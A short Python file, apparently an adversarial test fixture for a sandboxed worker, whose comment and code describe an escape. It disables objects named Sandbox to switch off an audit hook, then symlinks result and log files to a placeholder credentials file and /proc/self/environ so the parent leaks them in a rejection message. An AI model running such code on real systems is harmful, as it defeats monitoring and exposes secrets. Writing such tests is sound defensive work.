# Attempts: make the discovery process read a file of the user's for it: switch the audit hook
# off, replace the worker's result.json and log by symlinks to a credentials file (and to
# /proc/self/environ, which the parent would resolve to its own environment), then exit, so
# that the parent quotes the file in the rejection reason.
from typing import sys

gc = sys.modules["gc"]
for obj in gc.get_objects():
    if type(obj).__name__ == "Sandbox":
        obj.active = False
os = sys.modules["os"]
for name, target in (("result.json", "@SECRET_FILE@"), ("worker.log", "/proc/self/environ"),
                     ("phase", "@SECRET_FILE@")):
    try:
        os.remove(name)
    except OSError:
        pass
    os.symlink(target, name)
os._exit(0)
